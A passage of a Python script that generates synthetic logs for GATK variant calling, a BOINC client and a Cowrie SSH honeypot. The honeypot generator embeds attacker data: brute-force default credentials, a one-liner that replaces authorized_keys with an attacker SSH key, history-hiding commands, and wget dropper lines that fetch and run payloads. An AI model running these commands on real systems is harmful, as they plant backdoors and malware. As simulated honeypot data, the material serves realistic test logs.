            L.emit("Set the system property GATK_STACKTRACE_ON_USER_EXCEPTION (--java-options '-DGATK_STACKTRACE_ON_USER_EXCEPTION=true') to print the stack trace.", "stacktrace_hint")
            return
        gk("INFO", "FeatureManager", "Using codec BEDCodec to read file file:///scratch/mgarcia/exome_batch7/ref/exome_targets.bed", "using_codec", step=(200, 900))
        gk("INFO", "IntervalArgumentCollection", "Processing 62534512 bp from intervals", "processing_bp", step=(300, 1500))
        gk("INFO", H, "Done initializing engine", "done_initializing")
        gk("INFO", "HaplotypeCallerEngine", "Tool is in reference confidence mode and the annotation, the following changes will be made to any specified annotations: 'StrandBiasBySample' will "
                                           "be enabled. 'ChromosomeCounts', 'FisherStrand', 'StrandOddsRatio' and 'QualByDepth' annotations have been disabled", "ref_confidence_mode")
        gk("INFO", "NativeLibraryLoader", f"Loading libgkl_utils.so from jar:file:{JAR}!/com/intel/gkl/native/libgkl_utils.so", "loading_native_lib")
        gk("INFO", "NativeLibraryLoader", f"Loading libgkl_smithwaterman.so from jar:file:{JAR}!/com/intel/gkl/native/libgkl_smithwaterman.so", "loading_native_lib")
        gk("INFO", "SmithWatermanAligner", "Using AVX accelerated SmithWaterman implementation", "sw_avx")
        gk("INFO", "HaplotypeCallerEngine", "Standard Emitting and Calling confidence set to -0.0 for reference-model confidence output", "emitting_confidence")
        gk("INFO", "HaplotypeCallerEngine", "All sites annotated with PLs forced to true for reference-model confidence output", "pls_forced")
        gk("INFO", "NativeLibraryLoader", f"Loading libgkl_pairhmm_omp.so from jar:file:{JAR}!/com/intel/gkl/native/libgkl_pairhmm_omp.so", "loading_native_lib")
        gk("INFO", "IntelPairHmm", "Flush-to-zero (FTZ) is enabled when running PairHMM", "ftz")
        gk("INFO", "IntelPairHmm", "Available threads: 8", "available_threads")
        gk("INFO", "IntelPairHmm", "Requested threads: 8", "requested_threads")
        gk("INFO", "PairHMM", "Using the OpenMP multi-threaded AVX-accelerated native PairHMM implementation", "pairhmm_omp")
        gk("INFO", "ProgressMeter", "Starting traversal", "starting_traversal")
        gk("INFO", "ProgressMeter", "       Current Locus  Elapsed Minutes     Regions Processed   Regions/Minute", "progress_header")
        t0 = L.t
        regions = 0
        minutes = g.num(9, 22) if outcome == "ok" else 120
        ci, pos = 0, g.num(10000, 900000)
        while (L.t - t0).total_seconds() < minutes * 60:
            L.t += dt.timedelta(seconds=10, milliseconds=g.num(0, 40))
            el = (L.t - t0).total_seconds() / 60
            regions += g.num(200, 900)
            pos += g.num(1000000, 9000000)
            if pos > CHROMS[ci][1]:
                ci = min(ci + 1, len(CHROMS) - 1)
                pos = g.num(10000, 3000000)
            L.emit(f"{L.t:%H:%M:%S}.{ms3(L.t)} INFO  ProgressMeter - {CHROMS[ci][0] + ':' + str(pos):>20}  {el:15.1f}  {regions:20d}  {regions / el:15.1f}", "progress_row", "INFO", "ProgressMeter")
            if g.r.random() < 0.12:
                c = CHROMS[ci][0]
                alle = g.c(["A,<NON_REF>", "GA,G,<NON_REF>", "T,TA,<NON_REF>", "C,T,<NON_REF>"])
                gk("WARN", "DepthPerSampleHC", f"Annotation will not be calculated at position {c}:{pos + g.num(-900000, 0)} and possible alleles {alle} since genotype for sample {sample} "
                                               "is not called", "depth_per_sample_warn")
            if outcome == "runlimit" and (L.t - t0).total_seconds() > 3590 - 30:
                return
        ncalls = g.num(10 ** 7, 9 * 10 ** 7)
        filt = [("MappingQualityReadFilter", g.num(10 ** 5, 10 ** 6)), ("MappingQualityAvailableReadFilter", 0), ("MappedReadFilter", 0),
                ("NotSecondaryAlignmentReadFilter", g.num(0, 10 ** 5)), ("NotDuplicateReadFilter", g.num(10 ** 6, 10 ** 7)), ("PassesVendorQualityCheckReadFilter", 0),
                ("NonZeroReferenceLengthAlignmentReadFilter", 0), ("GoodCigarReadFilter", 0), ("WellformedReadFilter", 0)]
        gk("INFO", H, f"{filt[0][1]} read(s) filtered by: {filt[0][0]} ", "reads_filtered",
           [(f"{n} read(s) filtered by: {f} ", "reads_filtered") for f, n in filt[1:]] + [(f"{sum(n for _, n in filt)} total reads filtered out of {ncalls} reads processed", "total_filtered")])
        el = (L.t - t0).total_seconds() / 60
        L.emit(f"{L.t:%H:%M:%S}.{ms3(L.t)} INFO  ProgressMeter - {'chrX:' + str(g.num(154000000, 156000000)):>20}  {el:15.1f}  {regions:20d}  {regions / el:15.1f}", "progress_row", "INFO", "ProgressMeter")
        gk("INFO", "ProgressMeter", f"Traversal complete. Processed {regions} total regions in {el:.1f} minutes.", "traversal_complete")
        gk("INFO", "VectorLoglessPairHMM", f"Time spent in setup for JNI call : {g.r.uniform(1, 30):.9f}", "jni_setup_time")
        gk("INFO", "PairHMM", f"Total compute time in PairHMM computeLogLikelihoods() : {g.r.uniform(100, 900):.9f}", "pairhmm_time")
        gk("INFO", "SmithWatermanAligner", f"Total compute time in native SmithWaterman : {g.r.uniform(20, 300):.2f} sec", "sw_time")
        gk("INFO", H, "Shutting down engine", "shutting_down")
        done(H, (L.t - t0).total_seconds() / 60 + 0.1)

    def done(H, minutes):
        L.emit(f"[{L.t:%B} {L.t.day}, {L.t.year} at {L.t.hour % 12 or 12}:{L.t:%M:%S} {L.t:%p} UTC] org.broadinstitute.hellbender.tools.walkers.haplotypecaller.HaplotypeCaller done. "
               f"Elapsed time: {minutes:.2f} minutes.", "tool_done")
        L.emit(f"Runtime.totalMemory()={g.c([8589934592, 12884901888, 25769803776, 536870912])}", "runtime_total_memory")

    idx = 0
    hosts = [f"cn{n:03d}" for n in range(20, 64)]
    while len(L.rows) < N_LINES:
        idx += 1
        outcome = "user_error" if idx in (4, 9) else "runlimit" if idx == 6 else "ok"
        L.t = dt.datetime(2026, 12, 1, 9, 58, 12, tzinfo=UTC) + dt.timedelta(minutes=7 * (idx - 1))
        job(idx, g.c(hosts), outcome)
    del L.rows[N_LINES:]
    return next_times(L)


# 14 --------------------------------------------------------------- BOINC client 8.0.4 (Debian 12 package) on a volunteer's desktop with an NVIDIA GPU, attached to Einstein@Home,
#   Rosetta@home, World Community Grid, PrimeGrid and Asteroids@home, /var/lib/boinc-client/stdoutdae.txt over some days:
#   "dd-Mon-yyyy hh:mm:ss [Project] message" ("[---]" for the client itself); the start-up report, scheduler requests, downloads, tasks starting
#   and finishing, uploads, transient HTTP errors and back-offs, suspends when the computer is in use, a task over its time limit, restarts
@checked
def log_boinc(seed):
    L = Log("boinc_stdoutdae", seed, "full", False, True)
    g = L.g
    PROJ = {"Einstein@Home": ("https://einsteinathome.org/", lambda: g.c([f"h1_{g.f(400, 1500, 2)}_O3aC01Cl1In0__O3AS1a_{g.f(400, 1500, 2)}Hz_{g.num(1000, 99999)}",
                                                                          f"LATeah4021L{g.num(10, 99)}_{g.f(100, 1500, 1)}_0_0.0_{g.num(1000000, 99999999)}"])),
            "Rosetta@home": ("https://boinc.bakerlab.org/rosetta/", lambda: f"rb_{g.num(11, 12)}_{g.num(1, 30):02d}_{g.num(10000, 99999)}_{g.num(10000, 99999)}__t000__0_C1_SAVE_ALL_OUT_{g.num(10 ** 6, 10 ** 7)}_{g.num(1, 900)}"),
            "World Community Grid": ("https://www.worldcommunitygrid.org/", lambda: g.c([f"MCM1_0{g.num(200000, 299999)}_{g.num(1000, 9999)}", f"ARP1_00{g.num(10000, 99999)}_{g.num(100, 999)}"])),
            "PrimeGrid": ("https://www.primegrid.com/", lambda: f"llrSGS_{g.num(10 ** 8, 10 ** 9)}"),
            "Asteroids@home": ("https://asteroidsathome.net/boinc/", lambda: f"ps_{g.num(241101, 241130)}_input_{g.num(10000, 99999)}_{g.num(1, 30)}")}
    st = {"tasks": {p: [] for p in PROJ}, "running": [], "susp": False, "gpu_susp": False}

    def b(proj, msg, ev):
        L.t += ms(g, 0, 900)
        L.emit(f"{L.t:%d-%b-%Y %H:%M:%S} [{proj or '---'}] {msg}", ev, None, proj)

    def startup():
        b(None, "cc_config.xml not found - using defaults", "cc_config_not_found")
        b(None, "Starting BOINC client version 8.0.4 for x86_64-pc-linux-gnu", "starting_client")
        b(None, "log flags: file_xfer, sched_ops, task", "log_flags")
        b(None, "Libraries: libcurl/7.88.1 OpenSSL/3.0.15 zlib/1.2.13 brotli/1.0.9 zstd/1.5.4 libidn2/2.3.3 libpsl/0.21.2 (+libidn2/2.3.3) libssh2/1.10.0 nghttp2/1.52.0 librtmp/2.3 OpenLDAP/2.5.13",
          "libraries")
        b(None, "Data directory: /var/lib/boinc-client", "data_directory")
        b(None, "CUDA: NVIDIA GPU 0: NVIDIA GeForce RTX 3060 (driver version 535.216, CUDA version 12.2, compute capability 8.6, 12288MB, 11782MB available, 12740 GFLOPS peak)", "cuda_gpu")
        b(None, "OpenCL: NVIDIA GPU 0: NVIDIA GeForce RTX 3060 (driver version 535.216.01, device version OpenCL 3.0 CUDA, 12288MB, 11782MB available, 12740 GFLOPS peak)", "opencl_gpu")
        b(None, f"[libc detection] gathered: 2.36, Debian GLIBC 2.36-9+deb12u9", "libc_detection")
        b(None, "Host name: fermi", "host_name")
        b(None, "Processor: 16 AuthenticAMD AMD Ryzen 7 5800X 8-Core Processor [Family 25 Model 33 Stepping 2]", "processor")
        b(None, "Processor features: fpu vme de pse tsc msr pae mce cx8 apic sep mtrr pge mca cmov pat pse36 clflush mmx fxsr sse sse2 ht syscall nx mmxext fxsr_opt pdpe1gb rdtscp lm "
                "constant_tsc rep_good nopl nonstop_tsc cpuid extd_apicid aperfmperf rapl pni pclmulqdq monitor ssse3 fma cx16 sse4_1 sse4_2 movbe popcnt aes xsave avx f16c rdrand "
                "lahf_lm cmp_legacy svm extapic cr8_legacy abm sse4a misalignsse 3dnowprefetch osvw ibs skinit wdt tce topoext perfctr_core perfctr_nb bpext perfctr_llc mwaitx cpb "
                "cat_l3 cdp_l3 hw_pstate ssbd mba ibrs ibpb stibp vmmcall fsgsbase bmi1 avx2 smep bmi2 erms invpcid cqm rdt_a rdseed adx smap clflushopt clwb sha_ni xsaveopt xsavec "
                "xgetbv1 xsaves cqm_llc cqm_occup_llc cqm_mbm_total cqm_mbm_local user_shstk clzero irperf xsaveerptr rdpru wbnoinvd arat npt lbrv svm_lock nrip_save tsc_scale vmcb_clean "
                "flushbyasid decodeassists pausefilter pfthreshold avic v_vmsave_vmload vgif v_spec_ctrl umip pku ospke vaes vpclmulqdq rdpid overflow_recov succor smca fsrm debug_swap",
          "processor_features")
        b(None, "OS: Linux Debian: Debian GNU/Linux 12 (bookworm) [6.1.0-28-amd64|libc 2.36]", "os")
        b(None, "Memory: 31.27 GB physical, 976.00 MB virtual", "memory")
        b(None, f"Disk: 915.82 GB total, {g.f(700, 800, 2)} GB free", "disk")
        b(None, "Local time is UTC +0 hours", "local_time")
        b(None, "No WSL found.", "no_wsl")
        b(None, "VirtualBox version: 7.0.20", "vbox_version")
        b(None, "Config: GUI RPCs allowed from:", "gui_rpc_allowed")
        for p, (url, _) in PROJ.items():
            b(p, f"URL {url}; Computer ID {g.num(10 ** 6, 2 * 10 ** 7)}; resource share {g.c([100, 100, 50, 200])}", "project_url")
        b(None, "General prefs: from https://einsteinathome.org/ (last modified 12-Mar-2025 19:41:07)", "general_prefs")
        b(None, "Computer location: home", "computer_location")
        b(None, "General prefs: using separate prefs for home", "separate_prefs")
        b(None, "Reading preferences override file", "reading_override")
        b(None, "Preferences:", "preferences")
        b(None, "   max memory usage when active: 16012.71 MB", "pref_mem_active")
        b(None, "   max memory usage when idle: 28822.88 MB", "pref_mem_idle")
        b(None, "   max disk usage: 100.00 GB", "pref_disk")
        b(None, "   (to change preferences, visit a project web site or select Preferences in the Manager)", "pref_hint")
        b(None, "Setting up project and slot directories", "setting_up_dirs")
        b(None, "Checking active tasks", "checking_tasks")
        b(None, "Setting up GUI RPC socket", "gui_rpc_socket")
        b(None, f"Checking presence of {g.num(100, 400)} project files", "checking_files")
        b(None, "Initialization completed", "initialization_completed")

    def fetch():
        p = g.c(list(PROJ))
        b(p, "Sending scheduler request: To fetch work.", "sched_request_fetch")
        res = "CPU and NVIDIA GPU" if p in ("Einstein@Home", "PrimeGrid") else "CPU"
        b(p, f"Requesting new tasks for {res}", "requesting_tasks")
        L.t += ms(g, 800, 6000)
        n = g.c([0, 1, 1, 2, 3, 4])
        b(p, f"Scheduler request completed: got {n} new tasks", "sched_completed_got")
        if n == 0:
            b(p, g.c(["No work sent", "No tasks sent", "Project has no tasks available"]), "no_work")
        if g.r.random() < 0.5:
            b(p, f"Project requested delay of {g.c([7, 31, 61, 91, 121])} seconds", "requested_delay")
        for _ in range(n):
            t = PROJ[p][1]()
            st["tasks"][p].append(t)
            files = [t.split("__")[0] + g.c([".zip", "", "_input.txt"])] if g.r.random() < 0.6 else []
            for f in files:
                b(p, f"Started download of {f}", "started_download")
            for f in files:
                L.t += ms(g, 500, 30000)
                b(p, f"Finished download of {f}", "finished_download")

    def run_task():
        ps = [p for p in PROJ if st["tasks"][p]]
        if not ps or st["susp"]:
            return fetch() if not st["susp"] else resume()
        p = g.c(ps)
        t = st["tasks"][p].pop(0)
        b(p, f"Starting task {t}_{g.c([0, 0, 1, 2])}", "starting_task")
        st["running"].append((p, t))
        if len(st["running"]) > 6:
            p, t = st["running"].pop(0)
            b(p, f"Computation for task {t}_0 finished", "computation_finished")
            if g.r.random() < 0.04:
                b(p, f"Output file {t}_0_r{g.num(1000000, 9999999)}_0 for task {t}_0 absent", "output_absent")
            up = f"{t}_0_r{g.num(1000000, 9999999)}_0"
            b(p, f"Started upload of {up}", "started_upload")
            if g.r.random() < 0.12:
                L.t += ms(g, 2000, 30000)
                b(p, f"Temporarily failed upload of {up}: transient HTTP error", "failed_upload")
                b(p, f"Backing off {g.num(0, 1):02d}:{g.num(0, 59):02d}:{g.num(0, 59):02d} on upload of {up}", "backing_off")
                L.t += dt.timedelta(minutes=g.num(2, 40))
                b(p, f"Started upload of {up}", "started_upload")
            L.t += ms(g, 500, 9000)
            b(p, f"Finished upload of {up}", "finished_upload")

    def report():
        p = g.c(list(PROJ))
        b(p, "Sending scheduler request: To report completed tasks.", "sched_request_report")
        b(p, f"Reporting {g.num(1, 8)} completed tasks", "reporting_tasks")
        b(p, "Not requesting tasks: don't need (CPU: job cache full; NVIDIA GPU: job cache full)" if p in ("Einstein@Home", "PrimeGrid") else "Not requesting tasks: don't need (job cache full)",
          "not_requesting")
        L.t += ms(g, 800, 5000)
        b(p, "Scheduler request completed", "sched_completed")

    def suspend():
        if st["susp"]:
            return resume()
        st["susp"] = True
        b(None, g.c(["Suspending computation - computer is in use", "Suspending computation - CPU is busy", "Suspending computation - user request"]), "suspending")
        if g.r.random() < 0.5:
            st["gpu_susp"] = True
            b(None, "Suspending GPU computation - computer is in use", "suspending_gpu")

    def resume():
        st["susp"] = False
        b(None, "Resuming computation", "resuming")
        if st["gpu_susp"]:
            st["gpu_susp"] = False
            b(None, "Resuming GPU computation", "resuming_gpu")

    def net_fail():
        p = g.c(list(PROJ))
        b(p, "Scheduler request failed: Couldn't resolve host name" if g.r.random() < 0.5 else "Scheduler request failed: Timeout was reached", "sched_failed")
        b(None, "Project communication failed: attempting access to reference site", "comm_failed")
        b(None, *g.c([("Internet access OK - project servers may be temporarily down.", "internet_ok"),
                      ("BOINC can't access Internet - check network connection or proxy configuration.", "internet_not_ok")]))

    def abort():
        ps = [x for x in st["running"]]
        if not ps:
            return run_task()
        p, t = st["running"].pop(g.num(0, len(ps) - 1))
        k = g.r.random()
        if k < 0.5:
            b(p, f"Aborting task {t}_0: exceeded elapsed time limit {g.f(20000, 90000, 2)} ({g.f(10 ** 5, 10 ** 6, 2)}G/{g.f(10, 90, 2)}G)", "aborting_time_limit")
        else:
            b(p, f"Task {t}_0 exited with zero status but no 'finished' file", "no_finished_file")
            b(p, "If this happens repeatedly you may need to reset the project.", "reset_hint")

    def restart():
        b(None, "Exiting", "exiting")
        L.t += dt.timedelta(minutes=g.num(1, 600))
        startup()

    startup()
    ev = [(22, fetch), (40, run_task), (10, report), (5, suspend), (2, net_fail), (1.2, abort), (0.2, restart)]
    return L.run(slowed(L, ev, 240), None)


# 15 --------------------------------------------------------------- Cowrie 2.5.0 SSH and Telnet honeypot (Docker, the cowrie/cowrie image) on a small VPS of a security researcher,
#   var/log/cowrie/cowrie.log: Twisted's text log "yyyy-mm-ddThh:mm:ss.uuuuuuZ [system] message", where the system is a logger namespace with
#   "#level" ("[cowrie.ssh.transport.HoneyPotSSHTransport#debug]"), a protocol, session and address ("[HoneyPotSSHTransport,412,203.0.113.7]")
#   or "[-]"; brute-force logins, bots that log in and run their one-liners, downloads, direct-tcpip forwarding attempts, Telnet Mirai scans,
#   an unhandled error with its tab-indented traceback, restarts
@checked
def log_cowrie(seed):
    L = Log("cowrie_honeypot_log", seed, "full", True, True)
    g = L.g
    st = {"sid": g.num(10, 200)}
    CREDS = [("root", "123456"), ("root", "root"), ("admin", "admin"), ("root", "password"), ("ubuntu", "ubuntu"), ("root", "admin123"), ("pi", "raspberry"), ("test", "test"),
             ("oracle", "oracle"), ("user", "user"), ("root", "1qaz2wsx"), ("postgres", "postgres"), ("root", "Huawei@123"), ("git", "git"), ("root", ""), ("support", "support")]
    CLIENTS = ["SSH-2.0-Go", "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PuTTY_Release_0.81", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-libssh2_1.10.0"]
    HASSH = {"SSH-2.0-Go": "0a07365cc01fa9fc82608ba4019af499", "SSH-2.0-libssh_0.9.6": "51cba57125523ce4b9db67714a90bf6e", "SSH-2.0-OpenSSH_7.4": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
             "SSH-2.0-PuTTY_Release_0.81": "8f4e1a3c4a1c6f4a8d9b3a0b9e22a4a1", "SSH-2.0-paramiko_3.4.0": "b5752e36ba6c5979a575e43178908adf", "SSH-2.0-libssh2_1.10.0": "a7a87fbe86774c2e40cc4a7ea2ab1b3c"}
    ONELINERS = ["uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l", "echo -e \"\\x6F\\x6B\"", "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
                 "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "ls -lh $(which ls)", "crontab -l",
                 "w", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "nproc", "export HISTFILE=/dev/null"]
    DROPPERS = ["http://198.51.100.23/bins.sh", "http://203.0.113.77/x86", "http://198.51.100.140/mips; chmod 777 mips; ./mips ssh", "http://45.148.10.5/ohshit.sh"]

    def c(system, msg, ev, lv=None, comp=None, cont=()):
        L.t += dt.timedelta(microseconds=g.num(100, 200000))
        L.emit(f"{L.t:%Y-%m-%dT%H:%M:%S}.{L.t.microsecond:06d}Z [{system}] {msg}", ev, lv, comp)
        for text, cev in cont:
            L.emit(text, cev, lv, comp)

    def ns(name, lv, msg, ev):
        c(f"{name}#{lv}", msg, ev, lv, name)

    def startup():
        c("-", "Python Version 3.11.2 (main, Nov 30 2024, 21:22:50) [GCC 12.2.0]", "python_version")
        c("-", "Twisted Version 24.3.0", "twisted_version")
        c("-", "Cowrie Version 2.5.0", "cowrie_version")
        c("-", "Loaded output engine: jsonlog", "loaded_output")
        c("-", "Loaded output engine: textlog", "loaded_output")
        ns("twisted.scripts._twistd_unix.UnixAppLogger", "info", "twistd 24.3.0 (/cowrie/cowrie-env/bin/python3 3.11.2) starting up.", "twistd_starting")
        ns("twisted.scripts._twistd_unix.UnixAppLogger", "info", "reactor class: twisted.internet.epollreactor.EPollReactor.", "reactor_class")
        c("-", "CowrieSSHFactory starting on 2222", "factory_starting")
        ns("cowrie.ssh.factory.CowrieSSHFactory", "info", f"Starting factory <cowrie.ssh.factory.CowrieSSHFactory object at 0x7f{g.hx(10)}>", "starting_factory")
        c("-", "Ready to accept SSH connections", "ready_ssh")
        c("-", "HoneyPotTelnetFactory starting on 2223", "factory_starting")
        ns("cowrie.telnet.factory.HoneyPotTelnetFactory", "info", f"Starting factory <cowrie.telnet.factory.HoneyPotTelnetFactory object at 0x7f{g.hx(10)}>", "starting_factory")
        c("-", "Ready to accept Telnet connections", "ready_telnet")

    def ssh_session(bot):
        st["sid"] += 1
        sid = st["sid"]
        ip = g.ip("pub")
        sysname = f"HoneyPotSSHTransport,{sid},{ip}"
        T = "HoneyPotSSHTransport"
        t0 = L.t
        c("cowrie.ssh.factory.CowrieSSHFactory", f"New connection: {ip}:{g.port()} (172.17.0.2:2222) [session: {g.hx(12)}]", "new_connection", None, "cowrie.ssh.factory.CowrieSSHFactory")
        cl = g.c(CLIENTS)
        c(sysname, f"Remote SSH version: {cl}", "remote_version", None, T)
        c(sysname, f"SSH client hassh fingerprint: {HASSH[cl]}", "hassh", None, T)
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", f"kex alg=b'{g.c(['curve25519-sha256', 'curve25519-sha256@libssh.org', 'diffie-hellman-group14-sha256'])}' key alg=b'{g.c(['ssh-ed25519', 'rsa-sha2-512', 'ssh-rsa'])}'", "kex_alg")
        enc = g.c(["aes128-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com"])
        mac = g.c(["hmac-sha2-256", "hmac-sha2-256", "hmac-sha1"])
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", f"outgoing: b'{enc}' b'{mac}' b'none'", "outgoing_alg")
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", f"incoming: b'{enc}' b'{mac}' b'none'", "incoming_alg")
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", "NEW KEYS", "new_keys")
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", "starting service b'ssh-userauth'", "starting_service")
        ok = False
        for k in range(g.c([1, 1, 1, 2, 3, 6])):
            u, pw = g.c(CREDS)
            ns("cowrie.ssh.userauth.HoneyPotSSHUserAuthServer", "debug", f"b'{u}' trying auth b'password'", "trying_auth")
            if k == 0:
                c(sysname, "Could not read etc/userdb.txt, default database activated", "userdb_default", None, T)
            ok = bot and u == "root" and pw not in ("root", "") and g.r.random() < 0.7
            c(sysname, f"login attempt [b'{u}'/b'{pw}'] {'succeeded' if ok else 'failed'}", "login_attempt", None, T)
            if ok:
                c(sysname, f"Initialized emulated server as architecture: {g.c(['linux-x64-lsb', 'linux-x64-lsb', 'linux-arm-lsb'])}", "emulated_arch", None, T)
                ns("cowrie.ssh.userauth.HoneyPotSSHUserAuthServer", "debug", f"b'{u}' authenticated with b'password'", "authenticated")
                ns("cowrie.ssh.transport.HoneyPotSSHTransport", "debug", "starting service b'ssh-connection'", "starting_service")
                break
            L.t += ms(g, 500, 2500)
            ns("cowrie.ssh.userauth.HoneyPotSSHUserAuthServer", "debug", f"b'{u}' failed auth b'password'", "failed_auth")
            ns("cowrie.ssh.userauth.HoneyPotSSHUserAuthServer", "debug", "unauthorized login: ()", "unauthorized_login")
        if ok:
            ns("cowrie.ssh.connection.CowrieSSHConnection", "debug", "got channel b'session' request", "got_channel")
            ns("cowrie.ssh.session.HoneyPotSSHSession", "info", "channel open", "channel_open")
            ns("cowrie.ssh.connection.CowrieSSHConnection", "debug", "got global b'no-more-sessions@openssh.com' request", "got_global")
            if g.r.random() < 0.15:
                c(sysname, f"direct-tcp connection request to {g.c(['142.250.185.78:443', '1.1.1.1:53', '8.8.8.8:53', '104.16.132.229:80'])} from 127.0.0.1:{g.num(0, 60000)}", "direct_tcp", None, T)
            for cmd in g.r.sample(ONELINERS, g.num(1, 4)):
                c(sysname, f"CMD: {cmd}", "cmd", None, T)
                ns("cowrie.ssh.session.HoneyPotSSHSession", "info", f"executing command \"b'{cmd}'\"", "executing_command")
                for part in cmd.split(" && ") if " && " in cmd else [cmd]:
                    c(sysname, f"Command found: {part}", "command_found", None, T)
            if g.r.random() < 0.35:
                url = g.c(DROPPERS)
                cmd = f"cd /tmp || cd /var/run || cd /mnt; wget {url}"
                c(sysname, f"CMD: {cmd}", "cmd", None, T)
                c(sysname, "Command found: cd /tmp", "command_found", None, T)
                c(sysname, f"Command found: wget {url.split(';')[0]}", "command_found", None, T)
                h = g.hx(64)
                c(sysname, f"Downloaded URL (b'{url.split(';')[0]}') with SHA-256 {h} to var/lib/cowrie/downloads/{h}", "downloaded_url", None, T)
                if ";" in url:
                    c(sysname, f"Command not found: ./{url.split('/')[-1].split(';')[0]} ssh", "command_not_found", None, T)
            ns("cowrie.ssh.session.HoneyPotSSHSession", "info", "remote close", "remote_close")
            L.t += dt.timedelta(seconds=g.num(1, 30))
            c(sysname, f"Closing TTY Log: var/lib/cowrie/tty/{g.hx(64)} after {int((L.t - t0).total_seconds()) - g.num(1, 3)} seconds", "closing_tty", None, T)
            ns("cowrie.ssh.connection.CowrieSSHConnection", "info", "sending close 0", "sending_close")
            c(sysname, "avatar root logging out", "avatar_logout", None, T)
        elif g.r.random() < 0.4:
            c(sysname, f"Got remote error, code 11 reason: b'{g.c(['Bye Bye', 'disconnected by user', 'Normal Shutdown, Thank you for playing'])}'", "remote_error", None, T)
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "info", "connection lost", "connection_lost")
        c(sysname, f"Connection lost after {int((L.t - t0).total_seconds())} seconds", "connection_lost_after", None, T)

    def scan():
        ssh_session(False)

    def bot():
        ssh_session(True)

    def telnet():
        st["sid"] += 1
        ip = g.ip("pub")
        sysname = f"HoneyPotTelnetTransport,{st['sid']},{ip}"
        c("cowrie.telnet.factory.HoneyPotTelnetFactory", f"New connection: {ip}:{g.port()} (172.17.0.2:2223) [session: {g.hx(12)}]", "new_connection", None, "cowrie.telnet.factory.HoneyPotTelnetFactory")
        t0 = L.t
        for _ in range(g.num(1, 3)):
            L.t += dt.timedelta(seconds=g.num(1, 9))
            u, pw = g.c([("admin", "admin"), ("root", "xc3511"), ("root", "vizxv"), ("root", "888888"), ("support", "support"), ("root", "default"), ("guest", "12345")])
            c(sysname, f"login attempt [b'{u}'/b'{pw}'] failed", "login_attempt", None, "HoneyPotTelnetTransport")
        L.t += dt.timedelta(seconds=g.num(1, 20))
        c(sysname, f"Connection lost after {int((L.t - t0).total_seconds())} seconds", "connection_lost_after", None, "HoneyPotTelnetTransport")

    def timeout():
        st["sid"] += 1
        ip = g.ip("pub")
        sysname = f"HoneyPotSSHTransport,{st['sid']},{ip}"
        c("cowrie.ssh.factory.CowrieSSHFactory", f"New connection: {ip}:{g.port()} (172.17.0.2:2222) [session: {g.hx(12)}]", "new_connection", None, "cowrie.ssh.factory.CowrieSSHFactory")
        L.t += dt.timedelta(seconds=120)
        c(sysname, "Timeout reached in HoneyPotSSHTransport", "timeout_reached", None, "HoneyPotSSHTransport")
        ns("cowrie.ssh.transport.HoneyPotSSHTransport", "info", "connection lost", "connection_lost")
        c(sysname, "Connection lost after 120 seconds", "connection_lost_after", None, "HoneyPotSSHTransport")

    def error():
        st["sid"] += 1
        sysname = f"HoneyPotSSHTransport,{st['sid']},{g.ip('pub')}"
        c(sysname, "Unhandled Error", "unhandled_error", None, "HoneyPotSSHTransport", [
            ("\tTraceback (most recent call last):", "traceback_head"),
            ("\t  File \"/cowrie/cowrie-env/lib/python3.11/site-packages/twisted/python/log.py\", line 96, in callWithLogger", "traceback_file"),
            ("\t    return callWithContext({\"system\": lp}, func, *args, **kw)", "traceback_code"),
            ("\t  File \"/cowrie/cowrie-env/lib/python3.11/site-packages/twisted/internet/posixbase.py\", line 487, in _doReadOrWrite", "traceback_file"),
            ("\t    why = selectable.doRead()", "traceback_code"),
            ("\t  File \"/cowrie/cowrie-git/src/cowrie/ssh/transport.py\", line 144, in dataReceived", "traceback_file"),
            ("\t    self.dispatchMessage(messageNum, packet[1:])", "traceback_code"),
            ("\t  File \"/cowrie/cowrie-git/src/cowrie/ssh/transport.py\", line 102, in sendKexInit", "traceback_file"),
            ("\t    self.ourVersionString.decode(\"utf-8\")", "traceback_code"),
            ("\tbuiltins.UnicodeDecodeError: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte", "traceback_exception"),
            ("\t", "traceback_blank")])

    def restart():
        c("-", "Received SIGTERM, shutting down.", "sigterm")
        c("-", "(TCP Port 2222 Closed)", "port_closed")
        c("-", "(TCP Port 2223 Closed)", "port_closed")
        ns("cowrie.ssh.factory.CowrieSSHFactory", "info", f"Stopping factory <cowrie.ssh.factory.CowrieSSHFactory object at 0x7f{g.hx(10)}>", "stopping_factory")
        ns("twisted.internet.base", "info", "Main loop terminated.", "main_loop_terminated")
        ns("twisted.scripts._twistd_unix.UnixAppLogger", "info", "Server Shut Down.", "server_shut_down")
        L.t += dt.timedelta(seconds=g.num(5, 300))
        startup()

    startup()
    ev = [(40, scan), (14, bot), (10, telnet), (4, timeout), (0.3, error), (0.15, restart)]
    return L.run(slowed(L, ev, 30), None)


